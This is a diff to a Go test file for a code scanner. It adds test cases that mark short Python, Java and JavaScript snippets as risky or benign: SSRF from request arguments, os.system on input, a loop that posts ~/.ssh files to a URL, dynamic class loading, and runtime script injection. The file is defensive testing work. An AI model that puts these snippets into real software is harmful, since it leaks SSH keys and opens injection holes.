@@ -1,6 +1,9 @@
 package code_test
 
-import "testing"
+import (
+	"strings"
+	"testing"
+)
 
 // TestOffers is what stands for a capability by a default, a table, a promise or a star, and beside each what stands for nothing of the kind.
 func TestOffers(t *testing.T) {
@@ -70,4 +73,36 @@ func TestAsked(t *testing.T) {
 		{"def f(conn, a):\n    conn.execute(sql='SELECT * FROM t WHERE a = ' + a)", true},
 		{"def f(conn, a):\n    conn.execute('SELECT * FROM t WHERE a = :text', {'text': f'{a}!'})", false},
 	})
+}
+
+// TestGaps is what was too far away to be seen, or stood under another name, and beside each what does no harm.
+func TestGaps(t *testing.T) {
+	const helper = "import requests\nfrom flask import request\ndef fetch(url):\n    return requests.get(url)\n"
+	harmless := strings.Repeat("fetch('https://a.example/')\n", 9)
+	judgeKinds(t, "python", []kindRow{
+		{helper + harmless + "def h():\n    return fetch(request.args['u'])", true},
+		{helper + harmless + "def h():\n    return fetch('https://a.example/' + request.args['u'])", false},
+		{"import os\nx = 1\n" + strings.Repeat("x = 2\n", 9) + "x = os\nx.system(c)", true},
+		{"from pathlib import Path\nimport requests\nfor f in (Path.home() / '.ssh').iterdir():\n    requests.post(U, data=f.read_bytes())", true},
+		{"from pathlib import Path\nfor f in (Path.home() / '.ssh').iterdir():\n    print(f.name)", false},
+		{"from pathlib import Path\nimport requests\nfor f in (Path.home() / 'notes').iterdir():\n    requests.post(U, data=f.read_bytes())", false},
+		{"import os\nd = os.path.expanduser('~/.ssh')\nfor n in os.listdir(d):\n    print(open(os.path.join(d, n)).read())", true},
+	})
+	judgeKinds(t, "java", []kindRow{
+		{"Object f(ClassLoader l, String n) throws Exception { return l.loadClass(n); }", true},
+		{"Object f(ClassLoader l) throws Exception { return l.loadClass(\"a.B\"); }", false},
+		{"Class<?> f(String n) throws Exception { return super.loadClass(n); }", false},
+	})
+	judgeKinds(t, "javascript", []kindRow{
+		{"const s = document.createElement('script')\ns.textContent = code\ndocument.head.append(s)", true},
+		{"const s = document.createElement('style')\ns.textContent = code\ndocument.head.append(s)", false},
+		{"const s = document.createElement('script')\ns.textContent = 'go()'\ndocument.head.append(s)", false},
+		{"const s = document.createElement('script')\ns.setAttribute('src', u)", true},
+		{"const s = document.createElement('script')\ns.setAttribute('async', u)", false},
+		{"const s = document.createElement('script')\ns.appendChild(document.createTextNode(code))", true},
+		{"const s = document.createElement('p')\ns.appendChild(document.createTextNode(code))", false},
+	})
+	// So many calls in calls that nobody waits for the end of them.
+	deep := "function f(x) { return [" + strings.Repeat("x, ", 1000) + "]; }\n" + strings.Repeat("exec2(f('a'));\n", 100)
+	judgeKinds(t, "javascript", []kindRow{{deep, true}, {"function f(x) { return [x, x]; }\nexec2(f('a'));\n", false}})
 }
